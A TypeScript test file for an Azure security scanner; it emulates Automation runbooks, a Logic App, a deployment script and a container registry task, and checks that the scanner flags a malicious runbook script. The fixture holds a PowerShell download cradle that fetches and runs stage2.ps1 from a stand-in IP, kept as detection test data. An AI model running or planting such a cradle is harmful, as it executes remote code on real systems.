/**
 * The payload bodies the demo tenant has none of, end to end: a snapshot made here from
 * azure-rest-api-specs examples (test/fixtures/reference/SOURCES.md) holds an Automation runbook
 * with a published and a draft script, a Logic App, a deployment script and an ACR task. The
 * emulator serves them (runbook list, …/content and …/draft/content as text/powershell, Logic App
 * and deployment script by id, registries/{name}/tasks) and a live scan through the CLI must find
 * what a scan of the same snapshot's files finds, with the runbook's script analysed.
 */
import { copyFileSync, cpSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type RunningEmulator, startEmulator } from "../../emulator/server.ts";
import { PACKAGE_ROOT } from "../../src/paths.js";
import { exampleBody, runCli, tempDir } from "../helpers.js";

type Json = Record<string, unknown>;
const SUB = "8b1811f6-5813-475a-8054-5d2939bd681f";
const RG = "contoso-automation";
const tmp = tempDir();
afterAll(() => tmp.cleanup());

/** An example body moved into SUB / RG (its ids rewritten). */
function rehome<T>(body: T, exampleSub: string, exampleRg: string): T {
  return JSON.parse(
    JSON.stringify(body).replaceAll(
      `/subscriptions/${exampleSub}/resourceGroups/${exampleRg}/`,
      `/subscriptions/${SUB}/resourceGroups/${RG}/`,
    ),
  ) as T;
}

/** A PowerShell download cradle: what an attacker's runbook runs (test data, never executed). */
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/stage2.ps1')";
const ACCOUNT = `/subscriptions/${SUB}/resourceGroups/${RG}/providers/Microsoft.Automation/automationAccounts/ContoseAutomationAccount`;
const RUNBOOK = `${ACCOUNT}/runbooks/Get-AzureVMTutorial`;
const TASK = `/subscriptions/${SUB}/resourceGroups/${RG}/providers/Microsoft.ContainerRegistry/registries/contosoprodacr/tasks/myTask`;

function makeSnapshot(): string {
  const dir = join(tmp.dir, "tenant");
  const demo = JSON.parse(readFileSync(join(PACKAGE_ROOT, "demo/tenant/snapshot.json"), "utf8")) as Json;
  mkdirSync(join(dir, "resources"), { recursive: true });
  writeFileSync(
    join(dir, "snapshot.json"),
    JSON.stringify({
      name: "payload endpoints",
      tenantId: demo.tenantId,
      window: demo.window,
      subscriptions: [{ subscriptionId: SUB, displayName: "contoso-prod" }],
    }),
  );
  // One demo image (whichever the generator wrote first), so the emulator serves the registry
  // that holds the task, with the layer blobs the demo keeps for its small layers.
  const repo = join(PACKAGE_ROOT, "demo/tenant/images/contosoprodacr/contoso_api");
  const image = readdirSync(repo)
    .filter((f) => f.endsWith(".json"))
    .sort()[0] as string;
  mkdirSync(join(dir, "images/contosoprodacr/contoso_api"), { recursive: true });
  copyFileSync(join(repo, image), join(dir, "images/contosoprodacr/contoso_api", image));
  cpSync(join(PACKAGE_ROOT, "demo/tenant/images/contosoprodacr/blobs"), join(dir, "images/contosoprodacr/blobs"), {
    recursive: true,
  });

  // Automation 2022-08-08 getRunbook.json, with its scripts: the published one an attacker's
  // cradle, the draft getRunbookDraftContent.json's body.
  const runbook = rehome(exampleBody("getRunbook.json") as Json, "subid", "rg");
  runbook.properties = {
    ...(runbook.properties as Json),
    "x-azure-exec-audit-content": { published: CRADLE, draft: exampleBody("getRunbookDraftContent.json") },
  };
  // The account itself: the ARM tracked-resource envelope (id, name, type, location, properties).
  const account = {
    id: ACCOUNT,
    name: "ContoseAutomationAccount",
    type: "Microsoft.Automation/automationAccounts",
    location: "East US 2",
    properties: {},
  };
  const workflow = rehome(
    exampleBody("Workflows_Get.json") as Json,
    "34adfa4f-cedf-4dc0-ba29-b6d1a69ab345",
    "test-resource-group",
  );
  // DeploymentScripts_Get.json's body has no type or name and an id under …/deployments/; given here.
  const script = {
    ...rehome(exampleBody("DeploymentScripts_Get.json") as Json, "00000000-0000-0000-0000-000000000000", "script-rg"),
    id: `/subscriptions/${SUB}/resourceGroups/${RG}/providers/Microsoft.Resources/deploymentScripts/MyDeploymentScript`,
    name: "MyDeploymentScript",
    type: "Microsoft.Resources/deploymentScripts",
  };
  // listRunbooksByAutomationAccount.json's AutoExport: a runbook with no script to serve (404s).
  const autoExport = rehome(
    (exampleBody("listRunbooksByAutomationAccount.json") as { value: Json[] }).value[1] as Json,
    "subid",
    "rg",
  );
  const task = { ...((exampleBody("TasksList.json") as { value: Json[] }).value[0] as Json), id: TASK };
  writeFileSync(
    join(dir, "resources", `${SUB}-resources.json`),
    JSON.stringify({ value: [account, runbook, autoExport, workflow, script, task] }, null, 1),
  );
  return dir;
}

interface Report {
  scan: { complete: boolean; coverage: { source: string; scope: string; status: string; reason?: string }[] };
  findings: { ruleId: string; resourceId?: string; evidence: unknown }[];
}

const keyOf = (f: Report["findings"][number]) => `${f.ruleId} ${f.resourceId ?? ""}`;
const DOWNLOAD_RULE = "336e30f3-6198-4a40-8a43-e0effec1b3da";

describe("payload endpoints the demo has none of", () => {
  let emu: RunningEmulator;
  let dir: string;
  beforeAll(async () => {
    dir = makeSnapshot();
    emu = await startEmulator({ port: 0, snapshot: dir, timeShift: "none" });
  });
  afterAll(() => emu.close());

  it("the emulator indexes the snapshot's resources file per subscription", () => {
    const served = emu.snapshot.resources.get(SUB)?.map((r) => r.id);
    expect(served).toContain(RUNBOOK);
    expect(served).toContain(TASK);
  });

  it("a live scan finds what a scan of the files finds, the runbook's cradle included", async () => {
    const liveOut = join(tmp.dir, "live.json");
    const filesOut = join(tmp.dir, "files.json");
    const live = await runCli(
      [
        "scan",
        "--no-state",
        "--all-subscriptions",
        "--arm-endpoint",
        emu.info.armEndpoint,
        "--auth",
        "env",
        "--format",
        "json",
        "--output",
        liveOut,
        // The snapshot holds resources and no Activity Log: its scopes are empty, and that is expected here.
        "--allow-empty",
      ],
      {
        NODE_EXTRA_CA_CERTS: emu.info.caFile,
        AZURE_TENANT_ID: emu.info.tenantId,
        AZURE_CLIENT_ID: emu.info.clientId,
        AZURE_CLIENT_SECRET: emu.info.clientSecret,
        AZURE_AUTHORITY_HOST: emu.info.authorityHost,
      },
    );
    expect(live.stderr).toBe("");
    const files = await runCli(["scan", "--no-state", "--input", dir, "--format", "json", "--output", filesOut]);
    const liveReport = JSON.parse(readFileSync(liveOut, "utf8")) as Report;
    const filesReport = JSON.parse(readFileSync(filesOut, "utf8")) as Report;
    const notComplete = liveReport.scan.coverage.filter((c) => c.status !== "complete");
    expect(notComplete.length).toBeGreaterThan(0);
    for (const c of notComplete) expect(c).toMatchObject({ source: "activity-log", status: "empty", records: 0 });
    expect(files.code).toBe(live.code);

    const findings = liveReport.findings.map(keyOf).sort();
    expect(findings).toContain(`${DOWNLOAD_RULE} ${RUNBOOK}`);
    expect(findings).toEqual(filesReport.findings.map(keyOf).sort());

    // Every new endpoint was asked, and answered as ARM does.
    const asked = (re: RegExp) => emu.requests.filter((q) => q.front === "arm" && re.test(q.path));
    expect(asked(/\/runbooks$/i).map((q) => q.status)).toEqual([200]);
    expect(asked(/\/runbooks\/Get-AzureVMTutorial\/content$/i).map((q) => q.status)).toEqual([200]);
    expect(asked(/\/runbooks\/Get-AzureVMTutorial\/draft\/content$/i).map((q) => q.status)).toEqual([200]);
    // A runbook without scripts: 404 twice, and the scan stayed complete.
    expect(asked(/\/runbooks\/AutoExport\/(draft\/)?content$/i).map((q) => q.status)).toEqual([404, 404]);
    expect(asked(/\/registries\/contosoprodacr\/tasks$/i).map((q) => q.status)).toEqual([200]);
    // The Logic App's and the deployment script's rows carry their payload: not read again.
    expect(asked(/\/workflows\/test-workflow$/i)).toEqual([]);
  }, 120_000);
});
